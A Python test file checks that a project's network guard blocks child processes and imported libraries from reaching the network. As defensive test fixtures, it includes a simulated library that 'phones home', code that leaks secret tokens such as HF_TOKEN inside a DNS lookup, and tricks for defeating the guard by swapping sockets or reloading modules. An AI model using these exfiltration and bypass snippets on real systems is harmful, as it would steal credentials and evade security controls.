"""Every process of ours shuts its door first; a library cannot open it, and the parent hears."""

from __future__ import annotations

import os
import queue
import re
import socket
import subprocess
import sys
from contextlib import closing
from pathlib import Path

import pytest

from models.download.messages import Leave, Look
from models.engine.messages import Connection, Load, Ping
from models.engine.process import Child
from models.network import Attempt

ROOT = Path(__file__).parents[2]
BEYOND = "192.0.2.1"  # reserved for documentation, RFC 5737
DOORS = ("install_door(", "Wire.of_process(")

# What a library could think of, from the harmless to the hostile.
TRICKS = {
    "asks plainly": "",
    "replaces the socket class": "socket.socket = _socket.socket",
    "loads the door again": "importlib.reload(models.network.door)",
    "forgets the door": "[sys.modules.pop(m) for m in list(sys.modules) if 'models' in m]",
    "replaces the watch": "models.network.door.Door.watch = lambda *_: None",
    "adds a hook of its own": "sys.addaudithook(lambda *_: None)",
}
HOSTILE = """
import importlib, os, socket, sys, _socket
import models.network
models.network.install_door()
import models.network.door
{trick}
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("192.0.2.1", 9))
except PermissionError:
    print("refused")
"""


def programs() -> list[Path]:
    """Every module of ours that is run as a process."""
    files = [path for room in ("app", "labs", "models") for path in (ROOT / room).rglob("*.py")]
    return [path for path in files if '__name__ == "__main__"' in path.read_text("utf-8")]


@pytest.mark.parametrize("program", programs(), ids=lambda path: str(path.relative_to(ROOT)))
def test_every_program_shuts_the_door(program: Path) -> None:
    assert any(words in program.read_text("utf-8") for words in DOORS)


def test_a_child_of_ours_is_one_of_the_programs() -> None:
    names = {".".join(path.relative_to(ROOT).with_suffix("").parts) for path in programs()}
    sources = [path.read_text("utf-8") for path in (ROOT / "models").rglob("*.py")]
    children = {name for text in sources for name in re.findall(r'= "(models\.[a-z_.]+)"', text)}
    assert {"models.engine.worker", "models.engine.sandbox_child"} <= children <= names


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS.keys())
def test_a_library_cannot_open_the_door(trick: str) -> None:
    command = [sys.executable, "-c", HOSTILE.format(trick=trick)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout) == (0, "refused\n"), done.stderr


LIBRARY = """
import socket
def phone_home():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.connect(("192.0.2.1", 9))
        except PermissionError:
            pass
phone_home()
raise ImportError("after phoning home")
"""


READER = """
import os, socket
wanted = ("ASSAY_TOKEN", "ASSAY_ENDPOINT_TOKEN_LAB", "HF_TOKEN", "OLLAMA_API_KEY")
try:
    socket.getaddrinfo(".".join(os.environ.get(name) or "none" for name in wanted), 80)
except PermissionError:
    pass
raise ImportError("after reading the environment")
"""


def what_is_told(
    module: str, library: str, folder: Path, request: object, code: str = LIBRARY
) -> Attempt:
    """Runs a child whose `library` phones home when it is imported; what the parent hears."""
    (folder / f"{library}.py").write_text(code, encoding="utf-8")
    told: queue.SimpleQueue[Attempt] = queue.SimpleQueue()
    with closing(Child(module, {"PYTHONPATH": str(folder)}, on_attempt=told.put)) as child:
        child.send(request)
        return told.get(timeout=30)


@pytest.mark.parametrize(
    ("module", "library", "request_"),
    [
        ("models.engine.worker", "llama_cpp", Load("no.gguf")),
        ("models.engine.sandbox_child", "jinja2", Ping()),
        ("models.download.child", "huggingface_hub", Look("a/b", "main", Leave())),
    ],
)
def test_a_library_that_phones_home_from_a_child_is_refused_and_told(
    tmp_path: Path, module: str, library: str, request_: object
) -> None:
    told = what_is_told(module, library, tmp_path, request_)
    assert (told.host, told.allowed, told.reason) == (BEYOND, False, "")
    assert told.asker == f"{library}.phone_home"


def test_no_child_inherits_the_tokens_of_the_user(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("ASSAY_TOKEN", "ASSAY_ENDPOINT_TOKEN_LAB", "HF_TOKEN", "OLLAMA_API_KEY"):
        monkeypatch.setenv(name, "secret")
    told = what_is_told("models.engine.sandbox_child", "jinja2", tmp_path, Ping(), READER)
    assert told.host == "none.none.none.none"


def test_a_worker_goes_out_for_the_act_of_its_connection(tmp_path: Path) -> None:
    connection = Connection("http://lab.example", open_for="Use a model at lab.example")
    request = Load("no.gguf", connection=connection)
    told = what_is_told("models.engine.worker", "llama_cpp", tmp_path, request)
    assert (told.allowed, told.reason) == (True, "Use a model at lab.example")


@pytest.mark.parametrize(
    "get", ["urllib.request.urlopen('http://assay.invalid/')", "httpx.get('http://assay.invalid/')"]
)
def test_a_proxy_on_loopback_is_not_a_way_out(get: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as proxy:
        address = f"http://127.0.0.1:{proxy.getsockname()[1]}"
        code = f"""
from models.network import install_door
door = install_door()
import httpx, urllib.request
try:
    {get}
except (OSError, httpx.ConnectError):
    print([attempt.host for attempt in door.attempts], door.proxies)
"""
        proxies = dict.fromkeys(("HTTP_PROXY", "http_proxy"), address)
        environment = {**os.environ, **proxies, "NO_PROXY": "", "no_proxy": ""}
        command = [sys.executable, "-c", code]
        said = subprocess.check_output(command, cwd=ROOT, env=environment, text=True, timeout=60)
        proxy.settimeout(0)
        with pytest.raises(BlockingIOError):  # nobody came
            proxy.accept()
    assert said == f"['assay.invalid'] {{'http': '{address}'}}\n"
